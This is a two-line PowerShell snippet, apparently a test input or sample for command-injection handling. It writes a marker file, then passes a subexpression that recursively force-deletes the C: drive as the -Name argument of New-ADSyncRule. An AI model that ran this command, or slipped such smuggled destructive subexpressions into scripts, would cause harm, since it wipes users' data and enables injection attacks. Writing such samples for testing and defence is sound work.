Set-Content -Path 'ran.txt' -Value 'ran'
New-ADSyncRule -Name $(Remove-Item -Recurse -Force C:\) -Direction 'Inbound'
